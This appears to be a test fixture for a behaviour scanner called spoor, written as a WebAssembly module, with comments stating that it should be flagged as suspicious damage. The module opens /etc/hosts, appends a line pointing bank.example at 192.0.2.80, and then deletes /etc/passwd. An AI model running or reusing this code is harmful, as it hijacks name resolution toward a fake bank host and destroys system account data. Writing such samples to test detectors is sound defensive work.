;; RUN: spoor run % -q --fail-on never
;; WHAT: Adds a line to the hosts of the machine, and deletes its list of users.
;; EXPECT: verdict=POTENTIALLY_UNWANTED|SUSPICIOUS rule=impact/damage file=/etc/hosts:changed file=/etc/passwd:deleted
(module
  (import "wasi_snapshot_preview1" "path_open"
    (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_pwrite" (func $fd_pwrite (param i32 i32 i32 i64 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_unlink_file" (func $unlink (param i32 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 64) "etc/hosts")
  (data (i32.const 96) "etc/passwd")
  (data (i32.const 128) "192.0.2.80 bank.example\0a")
  (func (export "_start")
    (drop (call $path_open (i32.const 3) (i32.const 1) (i32.const 64) (i32.const 9) (i32.const 0)
      (i64.const 0x604056) (i64.const 0) (i32.const 0) (i32.const 12)))
    (i32.store (i32.const 0) (i32.const 128))
    (i32.store (i32.const 4) (i32.const 24))
    (drop (call $fd_pwrite (i32.load (i32.const 12)) (i32.const 0) (i32.const 1) (i64.const 0) (i32.const 8)))
    (drop (call $unlink (i32.const 3) (i32.const 96) (i32.const 10)))))
